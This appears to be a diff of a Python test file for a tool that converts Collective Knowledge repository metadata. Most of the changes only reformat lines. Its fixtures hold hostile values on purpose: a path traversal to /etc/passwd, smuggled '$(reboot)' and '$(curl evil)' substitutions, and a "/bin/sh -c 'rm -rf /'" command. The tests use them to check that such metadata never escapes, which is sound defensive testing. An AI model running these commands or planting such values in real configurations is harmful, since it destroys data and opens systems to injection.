@@ -144,8 +144,8 @@ def make_ck_repo(root: Path, mark: Path) -> Path:
     # broken entries: each reported, none fatal
     bad = repo / "program" / "broken-json" / ".cm"
     _write(bad / "meta.json", '{"source_files": ["a.c"],\n  "tags": [oops]}')
-    _entry(repo, "dataset", "escape", "5555555555555555", {"dataset_files": ["../../../etc/passwd"], "tags": ["dataset"]},
-           {"readme.txt": "x"})
+    _entry(repo, "dataset", "escape", "5555555555555555",
+           {"dataset_files": ["../../../etc/passwd"], "tags": ["dataset"]}, {"readme.txt": "x"})
     _entry(repo, "soft", "tool.evil", "6666666666666666",
            {"customize": {"soft_file": {"linux": "rm"}}, "tags": ["tool", "evil"]})
     _entry(repo, "program", "needs-shell", "7777777777777777", {
@@ -361,7 +361,8 @@ def test_hostile_metadata_is_bounded_and_never_escapes(tmp_path: Path) -> None:
         "source_files": ["a.c"], "run_cmds": {
             "x": {"run_time": {"run_cmd_main": "$#BIN_FILE#$ {dep.compiler} $(reboot)"}},
             "y": {"run_time": {"run_cmd_main": "/bin/sh -c 'rm -rf /'"}},
-            "z": {"run_time": {"run_cmd_main": "$#BIN_FILE#$ $#CK_ENV_LIB_X#$"}}}}, {"a.c": "int main(void){return 0;}"})
+            "z": {"run_time": {"run_cmd_main": "$#BIN_FILE#$ $#CK_ENV_LIB_X#$"}}}},
+        {"a.c": "int main(void){return 0;}"})
     _entry(repo, "package", "evil-url", "eeeeeeeeeeeeeeee", {
         "customize": {"install_env": {"PACKAGE_URL": "https://x.org/$(curl evil)", "PACKAGE_NAME": "a.tgz",
                                       "PACKAGE_BUILD_TYPE": "cmake"}}, "tags": ["lib"]})
@@ -454,11 +455,12 @@ def test_a_data_set_of_several_files_and_the_commands_that_name_them(tmp_path: P
     meta = {"source_files": ["m.c"], "run_cmds": {"default": {"dataset_tags": ["pair"], "run_time": {
         "run_cmd_main": "$#BIN_FILE#$ $#dataset_path#$$#dataset_filename#$ $#dataset_path#$$#dataset_filename_1#$ "
                         "$#dataset_path#$$#dataset_filename_99#$"}}, "ok": {"dataset_tags": ["pair"], "run_time": {
-        "run_cmd_main": "$#BIN_FILE#$ $#dataset_path#$$#dataset_filename#$ \"$#dataset_path#$$#dataset_filename_1#$\""}}}}
+        "run_cmd_main": "$#BIN_FILE#$ $#dataset_path#$$#dataset_filename#$ "
+                        "\"$#dataset_path#$$#dataset_filename_1#$\""}}}}
     prog = map_program(CkEntry("program", "prog", None, p, meta, files=["m.c"]))
     assert prog.line is not None
-    assert prog.line["run"]["commands"] == {"ok": {"args": ["{input}/" + DATASET_FILE, "{input}/" + DATASET_FILE + "-1"],
-                                                   "env": {}}}
+    assert prog.line["run"]["commands"] == {
+        "ok": {"args": ["{input}/" + DATASET_FILE, "{input}/" + DATASET_FILE + "-1"], "env": {}}}
     assert any("dataset_filename_99" in n for n in prog.not_carried)
 
 
